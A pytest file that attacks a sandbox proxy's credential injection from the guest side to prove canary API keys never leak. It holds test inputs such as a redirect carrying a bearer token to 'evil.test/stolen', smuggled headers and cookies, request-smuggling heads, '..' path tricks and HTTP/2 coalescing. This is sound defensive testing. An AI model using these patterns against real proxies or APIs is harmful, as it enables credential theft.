# SPDX-License-Identifier: Apache-2.0
"""Credentials from the attacker's side: real clients and servers around the real keeper, edge,
egress, origins and vault (CredRig).

The clients run as guest root. Each attack has three ends: the response to the client, the requests
at the servers, and the audit log. After every test no server but the right one, no log and no
record has a byte of a canary.
"""
import base64
import contextlib
import gzip
import hashlib
import html
import json
import os
import pathlib
import re
import secrets
import signal
import socket
import ssl
import subprocess
import sys
import time
import urllib.parse
import zlib

import pytest

HERE = pathlib.Path(__file__).resolve().parent
sys.path[:0] = [str(HERE), str(HERE.parent / "rigs"), str(HERE.parent / "rigs/lab")]
import credlab  # noqa: E402
from rig import CredRig, Listener  # noqa: E402

CANARIES = {
    "openai": "sk-proj-" + secrets.token_hex(20),
    "anthropic": "sk-ant-api03-" + secrets.token_hex(20),
    "github": "gho_" + secrets.token_hex(18),
    "lab": "lab+/" + secrets.token_hex(16),
}
SLOTS = {
    "api.openai.com": ("authorization", "Bearer " + CANARIES["openai"]),
    "api.anthropic.com": ("x-api-key", CANARIES["anthropic"]),
    "api.github.com": ("authorization", "Bearer " + CANARIES["github"]),
    "api.test": ("x-secret", "key=" + CANARIES["lab"]),
}
HOST, OTHER, GIT, API = "api.openai.com", "api.anthropic.com", "github.com", "api.github.com"
# without a credential it is a tunnel; what a model API is then is in test_own_credentials.py
FORGE = API
BAD = ("expired.api.test", "wrong.api.test", "self.api.test")
SECONDS = 20


class Counter(Listener):
    """A server that must never receive a request."""

    def __init__(self):
        super().__init__(host="127.0.0.1")


@pytest.fixture(scope="module")
def lab(tmp_path_factory):
    folder = tmp_path_factory.mktemp("lab")
    with credlab.Lab(folder) as made, Counter() as plain:
        made.plain = plain
        made.server, made.evil = made.origin(), made.origin()
        made.gits = made.git(CANARIES["github"])
        stranger = credlab.Ca(folder, "stranger")
        made.bad = {
            "expired.api.test": made.origin(*made.ca.leaf("expired", ["expired.api.test"], days=0)),
            "wrong.api.test": made.origin(*made.ca.leaf("wrong", ["other.test"])),
            "self.api.test": made.origin(*stranger.leaf("self", ["self.api.test"])),
        }
        yield made


@pytest.fixture(scope="module")
def rig(lab):
    ports = {**dict.fromkeys(SLOTS, lab.server.port), "github.com": lab.gits.port,
             "evil.test": lab.evil.port, "plain.test": lab.server.port,
             **{name: server.port for name, server in lab.bad.items()}}
    pins = {f"{name}:443": f"127.0.0.1:{port}" for name, port in ports.items()}
    pins[f"{HOST}:80"] = f"127.0.0.1:{lab.plain.port}"
    policy = [f"allow network {name}:443" for name in ports] + [f"allow network {HOST}:80"]
    with CredRig(policy, pins, lab.ca.pem) as made:
        for name in ("openai", "anthropic", "github"):
            made.set_secret(name, CANARIES[name])
        made.set_custom("lab", CANARIES["lab"], "api.test *.api.test", "x-secret", "key=%s",
                        "LAB_KEY", "lab-proxy-managed-0")
        # what the guest trusts, and for opaque tunnels the lab's own CA
        made.trusted = made.dir / "trusted.pem"
        made.trusted.write_text(made.ca().read_text() + lab.ca.pem.read_text())
        yield made
        assert made.process.poll() is None, made.text()[-3000:]


def written(canary):
    """The forms of a value in a response."""
    raw = canary.encode()
    forms = {"plain": raw, "hex": raw.hex().encode(), "HEX": raw.hex().upper().encode(),
             "utf16": canary.encode("utf-16-le"),
             "utf16be": canary.encode("utf-16-be"), "reversed": raw[::-1]}
    for shift in range(3):
        text = base64.b64encode(b"\0" * shift + raw)
        text = text[-(-shift * 8 // 6):len(text) - 4]
        forms[f"base64-{shift}"] = text
        forms[f"base64url-{shift}"] = text.translate(bytes.maketrans(b"+/", b"-_"))
    return forms


def leaks(data):
    """The canaries in these bytes, in any form."""
    views = {data, urllib.parse.unquote_to_bytes(data),
             html.unescape(data.decode("latin-1")).encode("latin-1", "replace"),
             re.sub(rb"\\u00([0-9a-fA-F]{2})", lambda m: bytes.fromhex(m[1].decode()), data)}
    return [(name, form) for name, canary in CANARIES.items() for form,
            text in written(canary).items() for view in views if text in view]


def unpack(data, coding):
    if coding == "gzip":
        return gzip.decompress(data)
    if coding == "deflate":
        return zlib.decompress(data)
    if coding == "br":
        script = (
            "process.stdout.write(require('zlib').brotliDecompressSync(require('fs').readFileSync(0)))")
        return subprocess.run(["node", "-e", script], input=data, capture_output=True,
                              check=True).stdout
    if coding == "zstd":
        return subprocess.run(["zstd", "-dcq"], input=data, capture_output=True, check=True).stdout
    assert coding in ("", "identity"), coding
    return data


@pytest.fixture(autouse=True)
def nothing_leaks(rig, lab):
    lab.server.clear()
    yield
    for server in (lab.evil, *lab.bad.values()):
        assert not leaks(json.dumps(server.requests).encode())
    assert lab.plain.count == 0
    assert not leaks(rig.text().encode())
    assert not leaks(json.dumps(rig.records()).encode())


class Mark:
    """The records from here on."""

    def __init__(self, rig):
        self.rig, self.n = rig, len(rig.records())

    def wait(self, **want):
        """The first record with these fields; a field's value is searched for as a pattern."""
        for _ in range(60):
            found = self.rig.records()[self.n:]
            for record in found:
                if all(re.search(str(pattern), str(record.get(name, ""))) for name,
                       pattern in want.items()):
                    return record
            time.sleep(0.05)
        raise AssertionError(f"no record with {want}:\n"
                             + "\n".join(str({k: r[k] for k in r
                                              if k not in ('prev', 'hash', 'time')})
                                         for r in found))

    def count(self, **want):
        return sum(all(re.search(str(p), str(r.get(n, ""))) for n, p in want.items())
                   for r in self.rig.records()[self.n:])


@pytest.fixture()
def mark(rig):
    return Mark(rig)


# clients

def curl(rig, *argv, check=True):
    done = subprocess.run(["curl", "-sS", "-m", str(SECONDS), "--suppress-connect-headers",
                           "--proxy", f"http://127.0.0.1:{rig.bridge()}", "--cacert", rig.trusted,
                           *argv],
                          capture_output=True, timeout=2 * SECONDS, check=False)
    assert not check or done.returncode == 0, (done.returncode, done.stderr, done.stdout[:500])
    assert not leaks(done.stdout)
    return done


def status(rig, *argv):
    """(status, body) of curl's one answer."""
    out = curl(rig, "-w", "\n%{http_code}", *argv).stdout
    body, _, code = out.rpartition(b"\n")
    return int(code), body


def h2(rig, host, script):
    """What node's HTTP/2 client got for these requests, over one connection."""
    done = subprocess.run(["node", HERE.parent / "rigs/lab/client.mjs", str(rig.bridge()),
                           rig.trusted, host], input=json.dumps(script).encode(),
                          capture_output=True, timeout=2 * SECONDS, check=False)
    assert done.returncode == 0, done.stderr.decode()
    got = [json.loads(line) for line in done.stdout.splitlines()]
    for one in got:
        one["body"] = base64.b64decode(one["body"])
        assert not leaks(one["body"] + json.dumps(one["headers"]).encode()
                         + json.dumps(one["trailers"]).encode())
    return got


class Raw:
    """A connection for raw bytes: CONNECT, then TLS inside."""

    def __init__(self, rig, host=HOST, sni=None, port=443, tls=True):
        self.sock = socket.create_connection(("127.0.0.1", rig.bridge()), SECONDS)
        self.sock.settimeout(SECONDS)
        self.sock.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
        self.head = self.until(b"\r\n\r\n")
        if tls:
            assert b" 200 " in self.head, self.head
            context = ssl.create_default_context(cafile=str(rig.trusted))
            context.check_hostname = sni is None
            self.sock = context.wrap_socket(self.sock, server_hostname=sni or host)

    def until(self, mark):
        data = b""
        while mark not in data:
            piece = self.sock.recv(1)
            if not piece:
                break
            data += piece
        return data

    def rest(self):
        data = b""
        with contextlib.suppress(OSError):
            while piece := self.sock.recv(65536):
                data += piece
        return data

    def ask(self, head, body=b""):
        """(status, head, body) of an answer with a length or in chunks."""
        self.sock.sendall(head.replace("\n", "\r\n").encode("latin-1") + b"\r\n\r\n" + body)
        head = self.until(b"\r\n\r\n")
        lower = head.lower()
        if b"transfer-encoding: chunked" in lower:
            data = b""
            while n := int(self.until(b"\r\n").strip() or b"0", 16):
                data += self.exactly(n)
                self.until(b"\r\n")
            data += self.until(b"\r\n")
        else:
            n = re.search(rb"content-length: (\d+)", lower)
            data = self.exactly(int(n[1])) if n else b""
        assert not leaks(head + data)
        return int(head.split()[1]) if head else 0, head, data

    def exactly(self, n):
        data = b""
        while len(data) < n:
            piece = self.sock.recv(n - len(data))
            if not piece:
                break
            data += piece
        return data

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.sock.close()


def got(lab, path, host=HOST, n=1):
    """The n-th request with this path: the right credential once, and nothing of the guest's
    own."""
    request = lab.server.wait(path, n)[n - 1]
    name, want = SLOTS[host]
    assert lab.server.header(request, name) == [want], request
    assert not re.search("proxy-?managed|thief", json.dumps(request)), request
    others = [canary for at, (_, canary) in SLOTS.items() if at != host]
    assert not any(canary in json.dumps(request) for canary in others), request
    return request


def came(lab, path):
    return [r for r in lab.server.requests if r["path"].split("?")[0] == path]


# the right credential in the right place

PYTHON = ("import sys,urllib.request as u; print(u.urlopen(u.Request(sys.argv[1], "
          "headers={'Authorization': 'Bearer ' + sys.argv[2]}), timeout=20).read())")
NODE = """
const [, proxy, url, key] = process.argv;
const { request } = require("node:http"), https = require("node:https"), at = new URL(url);
const headers = { host: at.host + ":443" };
request({ port: proxy, method: "CONNECT", path: at.host + ":443", headers })
  .on("connect", (_, socket) => https.get(url, {
    headers: { authorization: "Bearer " + key }, defaultPort: 443,
    createConnection: () => require("node:tls").connect({ socket, servername: at.host }),
  }, (answer) => answer.pipe(process.stdout))).end();
"""


def run_python(rig, url, key):
    env = {**os.environ, "https_proxy": f"http://127.0.0.1:{rig.bridge()}",
           "SSL_CERT_FILE": str(rig.trusted)}
    return subprocess.run(["/usr/bin/python3", "-c", PYTHON, url, key], capture_output=True,
                          env=env, timeout=40, check=True).stdout


def run_node(rig, url, key):
    env = {**os.environ, "NODE_EXTRA_CA_CERTS": str(rig.trusted)}
    done = subprocess.run(["node", "-e", NODE, str(rig.bridge()), url, key], capture_output=True,
                          env=env, timeout=40, check=False)
    assert done.returncode == 0, done.stderr.decode()
    return done.stdout


CLIENTS = {
    "curl-h1": lambda rig, url,
    key: curl(rig, "--http1.1", "-H", f"Authorization: Bearer {key}", url).stdout,
    "curl-h2": lambda rig, url,
    key: curl(rig, "--http2", "-H", f"Authorization: Bearer {key}", url).stdout,
    "curl-basic": lambda rig, url, key: curl(rig, "-u", f"me:{key}", url).stdout,
    "curl-without": lambda rig, url, key: curl(rig, url).stdout,
    "python-urllib": run_python,
    "node-https": run_node,
}


@pytest.mark.parametrize("name", [n for n in CLIENTS if n != "curl-basic"])
def test_a_client_is_authenticated(rig, lab, mark, name):
    out = CLIENTS[name](rig, f"https://{HOST}/{name}", rig.variables()["OPENAI_API_KEY"])
    assert b'"ok":true' in out, out
    got(lab, "/" + name)
    record = mark.wait(kind="credential-use", action="use", op=f"GET /{name}")
    assert record["decision"] == "allow" and record["rule"] == "openai" and record[
        "host"] == HOST and "status 200" in record["reason"]
    assert mark.count(path="bypass") == 0, "what is opened does not pass unseen"


@pytest.mark.parametrize("host", SLOTS)
def test_each_host_gets_its_own_credential(rig, lab, host):
    assert status(rig, f"https://{host}/own-{host}")[0] == 200
    got(lab, f"/own-{host}", host)


def test_the_transparent_path_is_the_same(rig, lab, mark):
    with rig.dns() as dns:
        addr = dns.lookup(HOST)[0]
    port = rig.bridge(f"/tcp/{addr}/443")
    for how in ("--http1.1", "--http2"):
        done = subprocess.run(["curl", "-sS", "-m", "20", how, "--cacert", rig.trusted,
                               "--connect-to", f"{HOST}:443:127.0.0.1:{port}",
                               f"https://{HOST}/transparent{how}"], capture_output=True, timeout=40,
                              check=True)
        assert b'"ok":true' in done.stdout
        got(lab, f"/transparent{how}")
    mark.wait(kind="credential-use", action="use", path="transparent")


def test_many_requests_on_one_http2_connection(rig, lab):
    with rig.dns() as dns:
        addr = dns.lookup(HOST)[0]
    done = subprocess.run(["h2load", "-n", "200", "-c", "2", "-m", "10", "--connect-to",
                           f"127.0.0.1:{rig.bridge(f'/tcp/{addr}/443')}", f"https://{HOST}/load"],
                          capture_output=True, text=True, timeout=60, check=True)
    assert "200 succeeded" in done.stdout, done.stdout
    for n in range(1, 201, 50):
        got(lab, "/load", n=n)


def test_git_clones_and_pushes(rig, lab, mark, tmp_path):
    lab.gits.make("a.git")
    env = {**os.environ, "GIT_SSL_CAINFO": str(rig.trusted),
           "https_proxy": f"http://127.0.0.1:{rig.bridge()}", "GIT_TERMINAL_PROMPT": "0",
           "HOME": str(tmp_path)}

    def git(*argv, cwd=tmp_path):
        done = subprocess.run(["git", "-c", "user.name=a", "-c", "user.email=a@b", *argv], cwd=cwd,
                              env=env, capture_output=True, text=True, timeout=60, check=False)
        assert done.returncode == 0, done.stderr

    git("clone", "-q", f"https://{GIT}/a.git", "a")
    (tmp_path / "a/f").write_text("hello")
    git("add", "f", cwd=tmp_path / "a")
    git("commit", "-q", "-m", "one", cwd=tmp_path / "a")
    git("push", "-q", "origin", "HEAD:main", cwd=tmp_path / "a")
    git("clone", "-q", "-b", "main", f"https://{GIT}/a.git", "b")
    assert (tmp_path / "b/f").read_text() == "hello"
    assert set(lab.gits.users) <= {"", lab.gits.want}, lab.gits.users
    mark.wait(kind="credential-use", action="use", rule="github", host="^github.com$",
              op="POST .*git-receive-pack")


def test_a_host_without_a_credential_stays_an_opaque_tunnel(rig, lab, mark):
    done = curl(rig, "-v", "-H", "Authorization: Bearer mine", "https://plain.test/plain")
    assert b"sbx test lab" in done.stderr and b"sandbox CA" not in done.stderr
    request = lab.server.wait("/plain")[0]
    assert lab.server.header(request, "authorization") == ["Bearer mine"]
    mark.wait(kind="decision", host="plain.test", path="forward-bypass")
    assert mark.count(kind="credential-use") == 0


# the guest's own credential

FOREIGN = {
    "header": ["-H", "Authorization: Bearer thief"],
    "casing": ["-H", "aUTHORIZATION: bEARER thief"],
    "basic": ["-u", "thief:thief"],
    "other-known": ["-H", "api-key: thief"],
    "cookie": ["-H", "Cookie: a=b; __Secure-next-auth.session-token=thief"],
    "both": ["-H", "Authorization: Bearer SENTINEL", "-H", "Authorization: Bearer thief"],
    "underscore": ["-H", "api_key: thief"],
    # H2, F9: in places that the service's file does not name
    "session": ["-H", "Cookie: sessionKey=thief"],
    "another-vendor": ["-H", "x-goog-api-key: thief"],
    "websocket": ["-H", "Sec-WebSocket-Protocol: realtime, openai-insecure-api-key.thief"],
    "any-header": ["-H", "x-note: sk-ant-api03-thief-0123456789abcdef"],
    "any-cookie": ["-H", "Cookie: note=sk-ant-api03-thief-0123456789abcdef"],
    "query": ["?api_key=thief"],
    "query-oauth": ["?a=b&oauth%5ftoken=thief"],
    "any-query": ["?note=sk%2Dant-api03-thief-0123456789abcdef"],
}


@pytest.mark.parametrize("how", ("--http1.1", "--http2"))
@pytest.mark.parametrize("name", FOREIGN)
def test_a_foreign_key_does_not_leave(rig, lab, mark, name, how):
    sentinel = rig.variables()["OPENAI_API_KEY"]
    query = "".join(a for a in FOREIGN[name] if a[0] == "?")
    code, body = status(rig, how,
                        *(a.replace("SENTINEL", sentinel) for a in FOREIGN[name] if a[0] != "?"),
                        f"https://{HOST}/foreign{query}")
    assert code == 403 and b"sbx secret set openai" in body, (code, body)
    assert not came(lab, "/foreign")
    record = mark.wait(kind="credential-use", decision="deny", op="GET /foreign")
    assert record["rule"] == "openai"


@pytest.mark.parametrize("name",
                         ["x-api-key: thief", "Cookie: session=thief",
                          "x-note: ghp_thief0123456789abcdef"])
def test_a_foreign_key_does_not_leave_beside_a_custom_credential(rig, lab, mark, name):
    code, body = status(rig, "-H", name, "https://api.test/foreign")
    assert code == 403 and not came(lab, "/foreign"), body
    assert "refuse" == mark.wait(kind="credential-use", decision="deny",
                                 op="GET /foreign")["action"]


NEW_KEY = "/api/oauth/claude_cli/create_api_key"


@pytest.mark.parametrize("path",
                         [NEW_KEY, "/api//oauth/Claude_CLI/create_api_key/",
                          "/api/oauth/claude_cli/create%5fapi_key",
                          "/api/oauth/claude_cli/./create_api_key;a=b"])
@pytest.mark.parametrize("how", ["--http1.1", "--http2"])
def test_a_request_for_a_new_key_is_refused(rig, lab, mark, path, how):
    """F2: the shipped anthropic.conf; the server would answer with a key that sbx does not know."""
    code, body = status(rig, how, "--path-as-is", "-X", "POST", f"https://{OTHER}{path}")
    assert (code == 403 and b"refuse * /api/oauth/**/create_api_key" in body
            and b"sbx secret set anthropic" in body), body
    assert not lab.server.requests
    assert "create_api_key" in mark.wait(kind="credential-use", action="refuse", host=OTHER,
                                         rule="anthropic")["reason"]


@pytest.mark.parametrize("coding", ["", "&gzip"])
@pytest.mark.parametrize("how", ["--http1.1", "--http2"])
def test_a_token_inside_a_response_is_captured(rig, lab, mark, coding, how):
    """F2: the shipped github.conf; the response has a token that sbx did not know."""
    n = secrets.randbelow(10**9)
    fresh = "CLONE" + hashlib.sha256(str(n).encode()).hexdigest()[:24].upper()
    code, body = status(rig, how, "-D", "-", f"https://{API}/repos/o/r?n={n}{coding}")
    assert code == 200 and b'"id":7' in body and b'"login":"o"' in body, body
    assert fresh.encode() not in body and body.count(b"*" * len(fresh)) >= 3, body
    got(lab, "/repos/o/r", API)
    assert "removed" in mark.wait(kind="credential-use", action="use", host=API)["reason"]


@pytest.mark.parametrize("path",
                         ["/x/../api/oauth/claude_cli/create_api_key",
                          "/api/oauth/claude_cli//../create_api_key",
                          "/api/oauth/claude_cli/%20/../create_api_key"])
@pytest.mark.parametrize("how", ["--http1.1", "--http2"])
def test_a_path_that_servers_resolve_differently_is_refused(rig, lab, mark, path, how):
    """W1: what '..' takes away depends on the server, so that no rule can judge such a path."""
    code, body = status(rig, how, "--path-as-is", "-X", "POST", f"https://{OTHER}{path}")
    assert code == 403 and b"'..' segments" in body, body
    assert not lab.server.requests
    assert "'..' segments" in mark.wait(kind="credential-use", action="refuse", host=OTHER,
                                        rule="anthropic")["reason"]


def test_sentinels_are_removed_however_often_they_stand(rig, lab):
    sentinel = rig.variables()["OPENAI_API_KEY"]
    with Raw(rig) as raw:
        code, _, _ = raw.ask(
            f"GET /twice HTTP/1.1\nHost: {HOST}\nAUTHORIZATION: Bearer {sentinel}\nauthorization: bearer {sentinel}\nAuthorization: {sentinel}")
        assert code == 200
    got(lab, "/twice")


# names

def test_another_server_name_gets_no_certificate(rig, lab, mark):
    for name in ("evil.test", "api.anthropic.com", f"x.{HOST}"):
        with pytest.raises((ssl.SSLError, ConnectionError)):
            Raw(rig, sni=name)
    mark.wait(kind="decision", decision="deny", host=HOST)


@pytest.mark.parametrize("other",
                         ("evil.test", "api.anthropic.com", "plain.test", f"{HOST}:444", f"{HOST}.",
                          ""))
def test_another_host_inside_is_refused(rig, lab, mark, other):
    with Raw(rig) as raw:
        code, _, _ = raw.ask(f"GET /inside HTTP/1.1\nHost: {other}")
        same = other == f"{HOST}."
        assert code in ((200,) if same else (400, 421)), code
    if not same:
        assert not came(lab, "/inside")
        assert mark.count(kind="credential-use") == 0
        mark.wait(kind="decision", decision="deny")
    else:
        got(lab, "/inside")


def test_an_absolute_target_for_elsewhere_is_refused(rig, lab):
    with Raw(rig) as raw:
        assert raw.ask(f"GET https://evil.test/abs HTTP/1.1\nHost: {HOST}")[0] in (400, 421)
    assert not came(lab, "/abs") and not lab.evil.requests


def test_http2_coalescing_is_refused(rig, lab, mark):
    """One connection, another authority that the same server would answer for."""
    first, other, evil, again = h2(rig, HOST, [
        {"headers": {":path": "/coalesce-0"}},
        {"headers": {":path": "/coalesce", ":authority": "api.anthropic.com"}},
        {"headers": {":path": "/coalesce", ":authority": "evil.test"}},
        {"headers": {":path": "/coalesce-1"}},
    ])
    assert first["status"] == 200 and again["status"] == 200
    assert other["status"] == 421 and evil["status"] == 421, (other, evil)
    assert not came(lab, "/coalesce")
    got(lab, "/coalesce-0")
    mark.wait(kind="decision", decision="deny")


def test_a_host_header_beside_the_authority_counts_not(rig, lab):
    (one,) = h2(rig, HOST, [{"headers": {":path": "/beside", "host": "evil.test"}}])
    assert one["status"] in (0, 400, 421), one
    assert not came(lab, "/beside")


def test_a_redirect_takes_no_credential_along(rig, lab, mark):
    before = len(lab.evil.requests)
    sentinel = rig.variables()["OPENAI_API_KEY"]
    for how in ("--http1.1", "--http2"):
        curl(rig, how, "-L", "--location-trusted", "-H", f"Authorization: Bearer {sentinel}",
             f"https://{HOST}/redirect?to=https://evil.test/stolen")
    for request in lab.evil.wait("/stolen", 2):
        assert lab.evil.header(request, "authorization") == [f"Bearer {sentinel}"]
    assert len(lab.evil.requests) == before + 2
    mark.wait(kind="decision", host="evil.test", decision="allow")
    assert mark.count(kind="credential-use", host="evil.test") == 0


def test_a_redirect_inside_follows_nothing(rig, lab):
    """The proxy itself goes nowhere: one request in, one out."""
    assert status(rig, f"https://{HOST}/redirect?to=https://{OTHER}/elsewhere")[0] == 302
    assert not came(lab, "/elsewhere")


# answers

WAYS = ("plain", "base64", "base64a", "base64b", "base64url", "hex", "HEX", "percent",
        "percentsome", "json", "html", "htmlhex", "utf16", "twice", "header",
        "trailer", "split", "gzip", "deflate", "br", "zstd", "redirect")


@pytest.mark.parametrize("host", (HOST, "api.test"))
@pytest.mark.parametrize("way", WAYS)
def test_a_reflected_credential_is_removed(rig, lab, mark, way, host):
    for how in ("--http1.1", "--http2"):
        out = curl(rig, how, "-i", "--raw", f"https://{host}/reflect/{way}").stdout
        head, _, body = out.partition(b"\r\n\r\n")
        coding = re.search(rb"(?i)^content-encoding: *(\S+)", head, re.M)
        if how == "--http2":
            assert not leaks(unpack(body, coding[1].decode() if coding else ""))
        assert not leaks(out)
        if way not in ("header", "trailer", "redirect", "gzip", "deflate", "br",
                       "zstd") and how == "--http2":
            assert body.startswith(b"<before>") and body.endswith(b"<after>"), body
    got(lab, f"/reflect/{way}", host, 2)
    record = mark.wait(kind="credential-use", action="use", op=f"GET /reflect/{way}")
    assert "removed" in record["reason"], record


def test_http2_answers_are_clean_too(rig, lab):
    for way, one in zip(("trailer", "header", "br"),
                        h2(rig, HOST,
                           [{"headers": {":path": f"/reflect/{w}"}}
                            for w in ("trailer", "header", "br")])):
        assert one["status"] == 200, (way, one)


# heads

def test_a_head_byte_by_byte_is_one_request(rig, lab):
    with Raw(rig) as raw:
        for byte in f"GET /slow HTTP/1.1\r\nHost: {HOST}\r\n":
            raw.sock.sendall(byte.encode())
            time.sleep(0.002)
        assert raw.ask("X-Last: 1")[0] == 200
    got(lab, "/slow")


# A head that is too large: the answer can be lost, because edge closes while the client still sends
# (0).
@pytest.mark.parametrize("codes,head", (
    ((0, 431), "GET /bad HTTP/1.1\nHost: HOST\nX: " + "a" * 300000),
    ((0, 431),
     "GET /bad HTTP/1.1\nHost: HOST\n" + "\n".join(f"X-{i}: {'a' * 500}" for i in range(600))),
    ((400,), "GET /bad HTTP/1.1\nHost: HOST\nAuthorization: Bearer\n  thief"),
    ((400,), "GET /bad HTTP/1.1\nHost: HOST\nAuthorization : Bearer thief"),
    ((400,), "GET /bad HTTP/1.1\nHost: HOST\nHost: HOST"),
    ((400,), "GET /bad HTTP/1.1\nHost: HOST\nAuthori\0zation: Bearer thief"),
    ((400,), "POST /bad HTTP/1.1\nHost: HOST\nContent-Length: 5\nTransfer-Encoding: chunked"),
),
                         ids=("long field", "many fields", "folded", "space before the colon",
                              "two hosts", "zero byte", "two lengths"))
def test_a_head_with_two_readings_is_refused(rig, lab, mark, codes, head):
    with Raw(rig) as raw:
        try:
            code = raw.ask(head.replace("HOST", HOST))[0]
        except (BrokenPipeError, ConnectionError, ssl.SSLError):
            code = 0
        assert code in codes, code
    assert not came(lab, "/bad")
    mark.wait(decision="deny")


def test_a_second_request_hidden_in_a_body_stays_a_body(rig, lab):
    inner = f"GET /hidden HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode()
    with Raw(rig) as raw:
        assert raw.ask(f"POST /outer HTTP/1.1\nHost: {HOST}\nContent-Length: {len(inner)}",
                       inner)[0] == 200
    assert lab.server.wait("/outer")[0]["length"] == len(inner)
    assert not came(lab, "/hidden")


@pytest.mark.parametrize("method", ("TRACE", "TRACK", "CONNECT"))
def test_methods_that_say_the_head_again_are_refused(rig, lab, mark, method):
    with Raw(rig) as raw:
        code, _, _ = raw.ask(
            f"{method} {'/' if method != 'CONNECT' else HOST + ':443'} HTTP/1.1\nHost: {HOST}")
        assert code in (400, 403, 405, 501), code
    assert not lab.server.requests
    mark.wait(decision="deny")


def test_plain_http_is_refused(rig, lab, mark):
    code, body = status(rig, f"http://{HOST}/plain")
    assert code == 403 and b"https" in body, body
    with Raw(rig, port=80, tls=False) as raw:
        if b" 200 " in raw.head:
            raw.sock.sendall(f"GET /plain HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
            assert b" 403 " in raw.until(b"\r\n\r\n")
    with Raw(rig, tls=False) as raw:
        raw.sock.sendall(f"GET /plain HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
        assert b" 200 " not in raw.rest()
    assert lab.plain.count == 0
    record = mark.wait(decision="deny", host=HOST, port="^80$")
    assert "https" in record["reason"]


# servers

@pytest.mark.parametrize("host", BAD)
def test_a_server_without_its_certificate_gets_nothing(rig, lab, mark, host):
    code, body = status(rig, f"https://{host}/bad")
    assert code == 502 and b"certificate" in body, (code, body)
    assert not lab.bad[host].requests
    record = mark.wait(kind="credential-use", host=host, action="use")
    assert record["decision"] != "allow" or "certificate" in record["reason"], record
    assert mark.count(kind="credential-use", action="release") == 0


# bytes

def test_events_come_as_they_are_said(rig, lab):
    with Raw(rig) as raw:
        raw.sock.sendall(f"GET /sse?n=5&ms=1000 HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
        raw.until(b"\r\n\r\n")
        times = []
        while n := int(raw.until(b"\r\n"), 16):
            raw.exactly(n + 2)
            times.append(time.monotonic())
    assert len(times) == 5
    gap = max(b - a for a, b in zip(times, times[1:]))
    assert gap <= 1.1, f"{gap} s between two bytes"
    got(lab, "/sse")


def test_a_websocket_is_authenticated(rig, lab, mark):
    with Raw(rig, "api.test") as raw:
        code, head, _ = raw.ask(
            "GET /ws HTTP/1.1\nHost: api.test\nUpgrade: websocket\nConnection: Upgrade\nSec-WebSocket-Version: 13\n"
                                "Sec-WebSocket-Key: " + base64.b64encode(os.urandom(16)).decode())
        assert code == 101, head
        for _ in range(10):
            raw.sock.sendall(bytes([0x81, 0x85]) + b"abcd"
                             + bytes(c ^ k for c, k in zip(b"hello", b"abcda")))
            assert raw.exactly(7) == b"\x81\x05hello"
    got(lab, "/ws", "api.test")
    mark.wait(kind="credential-use", action="use", op="GET /ws", reason="101")


def test_a_stream_goes_both_ways_at_once(rig, lab):
    (one,) = h2(rig, HOST,
                [{"headers": {":path": "/echo", ":method": "POST",
                              "content-type": "application/grpc", "te": "trailers"},
                             "body": [f"piece {i};" for i in range(8)], "talk": True}])
    assert one["status"] == 200 and one["body"] == b"".join(b"piece %d;" % i for i in range(8)), one
    assert one["trailers"].get("grpc-status") == "0", one
    got(lab, "/echo")


def test_who_waits_for_100_gets_it(rig, lab):
    with Raw(rig) as raw:
        raw.sock.sendall(
            f"POST /expect HTTP/1.1\r\nHost: {HOST}\r\nExpect: 100-continue\r\n"
            "Content-Length: 5\r\n\r\n".encode())
        assert b" 100 " in raw.until(b"\r\n\r\n")
        raw.sock.sendall(b"hello")
        assert b" 200 " in raw.until(b"\r\n\r\n")
    assert got(lab, "/expect")["length"] == 5


@pytest.mark.parametrize("how", ("--http1.1", "--http2"))
def test_large_bodies_are_whole(rig, lab, tmp_path, how):
    n, path = 24 << 20, tmp_path / "up"
    path.write_bytes(os.urandom(n))
    assert b'"ok":true' in curl(rig, how, "-T", path, f"https://{HOST}/up").stdout
    request = got(lab, "/up")
    assert request["length"] == n
    import hashlib
    assert request["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest()
    out = subprocess.run(["curl", "-sS", how, "-m", "60", "--proxy",
                          f"http://127.0.0.1:{rig.bridge()}", "--cacert", rig.trusted, "-o",
                          tmp_path / "down",
                          f"https://{HOST}/download?n={n}"], capture_output=True, timeout=90,
                         check=False)
    assert out.returncode == 0 and (tmp_path / "down").stat().st_size == n


# what is lost on the way: these come last, they change the rig

@pytest.fixture()
def whole(rig, lab):
    """Whatever was broken, afterwards a request goes through."""
    yield
    for _ in range(100):
        if rig.command("up") == "yes" and b'"ok":true' in curl(rig, f"https://{HOST}/whole",
                                                               check=False).stdout:
            got(lab, "/whole")
            return
        time.sleep(0.1)
    raise AssertionError("nothing goes through any more:\n" + rig.text()[-3000:])


def test_a_secret_removed_in_flight_ends_the_request(rig, lab, mark, whole):
    try:
        with Raw(rig, FORGE) as raw, Raw(rig, FORGE) as idle:
            assert idle.ask(f"GET /before HTTP/1.1\nHost: {FORGE}")[0] == 200
            raw.sock.sendall(f"GET /sse?n=100&ms=100 HTTP/1.1\r\nHost: {FORGE}\r\n\r\n".encode())
            raw.until(b"\r\n\r\n")
            raw.exactly(4)
            rig.remove_secret("github")
            began = time.monotonic()
            rest = raw.rest()
            assert time.monotonic() - began < 3 and not rest.endswith(b"0\r\n\r\n"), (
                "it looks as if it had ended")
            # a connection that was opened has no binding any more
            code, _, body = idle.ask(f"GET /after HTTP/1.1\nHost: {FORGE}")
            assert code in (403, 421), (code, body)
            assert idle.rest() == b""
        assert not came(lab, "/after")
        assert "GH_TOKEN" not in rig.variables()
        mark.wait(kind="credential-use", op="GET /sse", reason="removed|changed|gone|ended|binding")
        mark.wait(kind="decision", decision="deny", op="GET /after")
        # and a new one is an opaque tunnel for the guest's own bytes
        assert b"sbx test lab" in curl(rig, "-v", f"https://{FORGE}/without").stderr
        assert lab.server.header(lab.server.wait("/without")[0], "authorization") == []
    finally:
        rig.set_secret("github", CANARIES["github"])


def test_a_secret_set_anew_is_used_at_once(rig, lab, whole):
    old = CANARIES["anthropic"]
    new = "sk-ant-api03-" + secrets.token_hex(20)
    with Raw(rig, "api.anthropic.com") as raw:
        assert raw.ask("GET /old HTTP/1.1\nHost: api.anthropic.com")[0] == 200
        got(lab, "/old", "api.anthropic.com")
        rig.set_secret("anthropic", new)
